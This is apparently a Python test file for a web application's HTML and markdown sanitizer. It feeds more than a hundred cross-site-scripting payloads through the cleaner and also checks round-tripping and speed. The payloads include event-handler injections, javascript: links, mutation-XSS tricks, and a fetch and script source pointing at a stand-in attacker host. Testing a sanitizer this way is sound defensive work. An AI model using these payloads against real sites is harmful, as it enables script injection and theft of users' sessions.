"""Rich text: whatever comes in, what goes out is ours (CHECKS 24)."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from enishi.kit import richtext
from enishi.kit.richtext import Picture

SCRIPTS = ("alert(1)", "top[`al`+`ert`](1)", "fetch('//evil.example')")
TAGS = (
    "<script>{}</script>", "<script src=//evil.example></script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>", "<script\n>{}</script\n>", "<<script>{}//<</script>", "<script>{}", "</script><script>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<img/src=x/onerror={}>", "<img src='picture:abcdefghij' onerror={}>",
    '<img src="picture:abcdefghij&quot; onerror=&quot;{}">', "<img src=`x`onerror={}>", "<image src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x></svg>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>", "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></svg>",
    "<svg><style><img src=x onerror={}></style></svg>", "<math><mtext><script>{}</script></mtext></math>",
    "<math><mi><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mi></math>",
    "<math href=javascript:{}>x</math>", "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<style>@import 'javascript:{}'</style>", "<style><!--</style><img src=x onerror={}>--></style>",
    "<p style='background:url(javascript:{})'>x</p>", "<p style=x:expression({})>x</p>", "<p onclick={}>x</p>", "<b onmouseover={}>x</b>",
    "<a href='javascript:{}'>x</a>", "<a href='JaVaScRiPt:{}'>x</a>", "<a href=' javascript:{}'>x</a>", "<a href='java\tscript:{}'>x</a>",
    "<a href='java\nscript:{}'>x</a>", "<a href='&#106;avascript:{}'>x</a>", "<a href='&#x6A;avascript&colon;{}'>x</a>",
    "<a href='\x01javascript:{}'>x</a>", "<a href='data:text/html,<script>{}</script>'>x</a>", "<a href='vbscript:{}'>x</a>",
    "<a href='//evil.example' onclick={}>x</a>", '<a href="https://a.example/&quot; onclick=&quot;{}">x</a>',
    "<a href=https://a.example/'onclick={}>x</a>", "<a href='https://a.example' target=_blank style={}>x</a>", "<a href='blob:{}'>x</a>",
    "<a href='https:javascript:{}'>x</a>", "<a href='mailto:a@example.jp?body=<script>{}</script>'>x</a>",
    "<iframe src='javascript:{}'></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>", "<form action='javascript:{}'><button>x</button></form>", "<button formaction='javascript:{}'>x</button>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>", "<textarea autofocus onfocus={}></textarea>",
    "<textarea></textarea><script>{}</script>", "<title><img src=x onerror={}></title>", "<title></title><img src=x onerror={}>",
    "<base href='javascript:{}//'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href='javascript:{}'>",
    "<body onload={}>", "<html onclick={}>", "<details open ontoggle={}>x</details>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>", "<marquee onstart={}>x</marquee>", "<template><script>{}</script></template>",
    "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>", "<plaintext><img src=x onerror={}>", "<!--><script>{}</script>-->",
    "<!--><img src=x onerror={}>-->", "<![CDATA[<script>{}</script>]]>", "<?xml version='1.0'?><script>{}</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>{}</script>'>]>&y;", "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}",
    "<p>&#60;script&#62;{}&#60;/script&#62;</p>", "<x-y onclick={}>x</x-y>", "<slot onclick={}>x</slot>", "<dialog open onclose={}>x</dialog>",
    "<div id=toasts class=shell data-x='{}'>x</div>", "<div hx-get='/account/' hx-trigger=load hx-vals='js:{{x:{}}}'>x</div>",
    "<div data-hx-on:click='{}'>x</div>", "<a href='https://a.example' hx-boost=true hx-on:click={}>x</a>",
    "<figure data-trix-attachment='{{\"content\":\"<img src=x onerror={}>\"}}'><img src=x onerror={}></figure>",
    "<div data-trix-mutable=true onclick={}>x</div>", "<ul><li onclick={}>x</ul>", "<table background='javascript:{}'><tr><td>x</table>",
    "<blockquote cite='javascript:{}'>x</blockquote>", "<img src='/n/a/news/pictures/abcdefghij/' srcset='x 1x, javascript:{}'>",
    "<img src='http://tracker.example/x.gif' alt='{}'>", "<img src='picture:ABCDEFGHIJ' onload={}>", "<h1 onclick={}><h2>x</h1>",
    "<p>\u202e<b>{}</b>\u2066x</p>", "<p>\x00<script\x00>{}</script>", "<scrıpt>{}</scrıpt>", "＜script＞{}＜/script＞", "<\x0cscript>{}</script>",
    "**<script>{}</script>**", "[x](javascript:{})", "[<img src=x onerror={}>](https://a.example)", "![abcdefghij](x onerror={})",
    "[x](https://a.example/\"onclick={})", "## <svg onload={}>", "- <iframe src=javascript:{}>", "> <script>{}</script>",
)  # fmt: skip
ALLOWED = {
    "p": set(), "h2": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(), "ul": set(), "ol": set(), "li": set(), "strong": set(), "br": set(),
    "blockquote": set(), "figure": set(), "a": {"href", "rel"}, "img": {"src", "alt", "loading", "width", "height"},
}  # fmt: skip
unhurried = settings(deadline=None)  # how long reading takes is measured by itself, and not by the clock
LONGEST = 60_000  # letters of an announcement
HTML = ["<", ">", "/", "=", "'", '"', "&", ";", " ", "\n", "a", "b", "li", "ul", "p", "h1", "img", "script", "svg", "href", "javascript:", "https://a.example", "picture:abcdefghij", "onclick", "br", "<!--", "-->", "<![CDATA[", "]]>", "&lt;"]  # fmt: skip
SIGNS = ["*", "**", "[", "]", "(", ")", "](", "\\", "#", "## ", "- ", "1. ", "> ", "!", "  ", "\u3000", "![abcdefghij]", "[a](https://a.example)"]  # fmt: skip
TAGS_OF_OURS = ["<p>", "<h2>", "<blockquote>", "<ul>", "<ol>", "<li>", "</ul>", "</ol>", "<b>", "</b>", "<a href='https://a.example/(b)[c]*d**'>", "</a>", "<br>", "<img src='picture:abcdefghij'>"]  # fmt: skip
PICTURES = {"abcdefghij": Picture("/n/a/news/pictures/abcdefghij/", 'a "b" <c>', 40, 30)}


class _Judge(HTMLParser):
    """Collects what a browser could run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.wrong += [f"<{tag}>"] if tag not in ALLOWED else []
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not re.match(r"https?://[a-z0-9]|mailto:[^?]+$", value or "", re.IGNORECASE):
                self.wrong.append(f"href {value}")
            if name == "src" and not re.fullmatch(
                r"picture:[a-z0-9]{10}|/n/a/news/pictures/[a-z0-9]{10}/", value or ""
            ):
                self.wrong.append(f"src {value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


def wrong_in(html: str) -> list[str]:
    """Return what should not stand in a text that was cleaned."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.wrong


def held(html: str) -> None:
    """Assert that a text is ours on the way in and on the way out, by both notations."""
    for stored in (richtext.clean(html), richtext.read(html)):
        assert wrong_in(stored) == []
        assert richtext.clean(stored) == stored, "cleaning again changes something"
        assert wrong_in(richtext.shown(stored, PICTURES, level=3)) == []
    assert wrong_in(richtext.shown(html, PICTURES)) == [], "a row that somebody wrote past the cleaner"


@pytest.mark.parametrize("script", SCRIPTS)
@pytest.mark.parametrize("payload", TAGS)
def test_payload_ends_as_text_or_as_nothing(payload: str, script: str) -> None:
    held(payload.replace("{}", script).replace("{{", "{").replace("}}", "}"))


def test_payloads_are_more_than_a_hundred() -> None:
    assert len(set(TAGS)) >= 100


@pytest.mark.parametrize(
    "outer", ["<p>{}</p>", "<ul><li>{}</li></ul>", "<a href='https://a.example'>{}</a>", "<b>{}", "<h1>{}<p>"]
)
@pytest.mark.parametrize("payload", TAGS[::4])
def test_payload_within_what_is_allowed_stays_harmless(payload: str, outer: str) -> None:
    held(outer.replace("{}", payload.replace("{}", SCRIPTS[0])))


@unhurried
@given(st.lists(st.sampled_from(HTML), max_size=40))
def test_any_soup_is_cleaned_once_and_for_all(parts: list[str]) -> None:
    held("".join(parts))


@unhurried
@given(st.text(max_size=200))
def test_any_text_is_read_as_it_was_meant_and_never_refused(text: str) -> None:
    for stored in (richtext.read(text), richtext.clean(text)):
        assert wrong_in(stored) == []
        assert richtext.clean(stored) == stored
        assert richtext.read(richtext.typed(stored)) == stored


@pytest.mark.parametrize(
    "text", ["<![foo[", "<![", "<!", "<?", "</", "<!-->", "<a", "<a href='", "<script>", f"&#{'1' * 5000};"]
)
def test_text_that_html_does_not_know_is_no_error(text: str) -> None:
    assert richtext.clean(f"Anfang {text}").startswith("<p>Anfang")
    assert richtext.clean(f'<a href="{text}">Anfang</a>').startswith("<p>Anfang")


@pytest.mark.parametrize(
    ("html", "stored"),
    [
        ("a <b und c", "<p>a &lt;b und c</p>"),
        ("a < b <!-- c", "<p>a &lt; b &lt;!-- c</p>"),
        ("a<!-- b -->c<!doctype d>e", "<p>ace</p>"),
        ("a<script>if (b < c) '</p>'</SCRIPT\n>d", "<p>ad</p>"),
        ("a<svg><svg></svg>b</svg>c", "<p>ac</p>"),
        ("<a title='>' href=https://a.example/b?c=d&amp;e=f href=x>g</a>", '<p><a href="https://a.example/b?c=d&amp;e=f">g</a></p>'),
    ],
)  # fmt: skip
def test_words_beside_what_is_no_tag_are_kept(html: str, stored: str) -> None:
    assert richtext.clean(html) == stored


def read_at_once(text: str) -> None:
    """Assert that the longest text of this part, again and again, takes nobody two seconds."""
    longest = (text * LONGEST)[:LONGEST]
    for read in (richtext.clean, richtext.read, richtext.typed):
        begun = time.process_time()
        read(longest)
        assert time.process_time() - begun < 2, f"{read.__name__} of {text!r}"


@pytest.mark.parametrize("text", ["<a ", "<!--", "<![", "<svg></a>", "<a x='", "<", "<br>a", "<ul>", "[", "[a](", "**", "a\n", "- a\n  b\n", "/pictures/", "\\", "&#1"])  # fmt: skip
def test_longest_text_costs_no_more_than_its_length(text: str) -> None:
    read_at_once(text)


@settings(unhurried, max_examples=20)
@given(st.lists(st.sampled_from([*HTML, *SIGNS, *TAGS_OF_OURS]), min_size=1, max_size=5))
def test_any_longest_text_costs_no_more_than_its_length(parts: list[str]) -> None:
    read_at_once("".join(parts))


@unhurried
@given(st.lists(st.sampled_from([*SIGNS, "a", "\n"]), max_size=25))
def test_any_signs_are_read_and_never_refused(parts: list[str]) -> None:
    held("".join(parts))


@unhurried
@given(st.lists(st.sampled_from([*SIGNS, *TAGS_OF_OURS, "a", "b ", "\n"]), max_size=25))
def test_plain_notation_gives_back_what_is_stored(parts: list[str]) -> None:
    stored = richtext.clean("".join(parts))

    assert richtext.read(richtext.typed(stored)) == stored


@pytest.mark.parametrize(
    ("html", "typed"),
    [
        ("<p>**a** 5 * 3</p>", r"\*\*a\*\* 5 * 3"),
        ("<p>[a](https://a.example/)<br>C:\\b</p>", "[a\\](https://a.example/)\nC:\\b"),
        ("<p>1. a<br>- b<br>&gt; c<br>## d</p>", "1\\. a\n\\- b\n\\> c\n\\## d"),
        ("<h2>a<br>b</h2><blockquote>c<br>d</blockquote>", "## a\n  b\n\n> c\n> d"),
        ('<p><a href="https://a.example/(b)">[c]</a></p>', r"[\[c\]](https://a.example/(b\))"),
    ],
)
def test_letters_that_look_like_the_notation_stay_letters(html: str, typed: str) -> None:
    assert richtext.typed(html) == typed
    assert richtext.read(typed) == html


@pytest.mark.parametrize(
    ("html", "stored"),
    [
        ("<div>一<br><br>二<br>三</div>", "<p>一</p><p>二<br>三</p>"),
        ("<h1>見出し</h1><div>本文<strong>太字</strong></div>", "<h2>見出し</h2><p>本文<strong>太字</strong></p>"),
        (
            "<ul><li>軍手</li><li>豚汁<ul><li>あつい</li></ul></li></ul>あと",
            "<ul><li>軍手</li><li>豚汁</li><li>あつい</li></ul><p>あと</p>",
        ),
        ("<blockquote>ことば</blockquote>", "<blockquote>ことば</blockquote>"),
        (
            '<div><a href="https://a.example/?a=1&amp;b=2">ここ</a></div>',
            '<p><a href="https://a.example/?a=1&amp;b=2">ここ</a></p>',
        ),
        (
            '<div>前<figure class="attachment"><img src="/n/x/news/pictures/abcdefghij/"><figcaption>x.webp</figcaption></figure>後</div>',
            '<p>前</p><figure><img src="picture:abcdefghij"></figure><p>後</p>',
        ),
        ("", ""),
        ("<p> </p><div><br></div>", ""),
    ],
)
def test_what_the_editor_sends_is_kept(html: str, stored: str) -> None:
    assert richtext.clean(html) == stored
    assert richtext.read(richtext.typed(stored)) == stored
    assert richtext.clean(richtext.editable(stored, PICTURES)) == stored


def test_addresses_in_a_text_are_links_when_it_is_shown() -> None:
    shown = richtext.shown("<p>詳しくは https://a.example/b へ。<strong>kai@example.jp</strong></p>")

    assert shown.count("<a href=") == 2
    assert 'rel="nofollow noopener"' in shown


def test_picture_that_is_gone_leaves_no_trace_and_one_that_is_there_has_its_words() -> None:
    html = '<p>前</p><figure><img src="picture:abcdefghij"></figure><figure><img src="picture:zzzzzzzzzz"></figure>'

    shown = richtext.shown(html, PICTURES)

    assert shown.count("<img") == 1
    assert 'alt="a &quot;b&quot; &lt;c&gt;" width="40" height="30"' in shown
    assert richtext.pictures_in(html) == ["abcdefghij", "zzzzzzzzzz"]


def test_plain_words_have_no_look() -> None:
    html = "<h2>題</h2><p>一<br>二</p><ul><li>軍手</li><li>豚汁</li></ul>"

    assert richtext.plain(html) == "題\n\n一\n二\n\n- 軍手\n- 豚汁"


def test_a_very_long_text_is_cut_at_its_blocks_and_costs_no_depth() -> None:
    assert len(richtext.blocks("<p>x</p>" * 5000)) == richtext.MOST_BLOCKS
    assert len(richtext.blocks("<ul>" + "<li>x<img src='picture:abcdefghij'>" * 1000)) == richtext.MOST_BLOCKS
    assert richtext.clean("<b>" * 20_000 + "x" + "<ul><li>" * 5_000 + "y").count("<li>") == 1
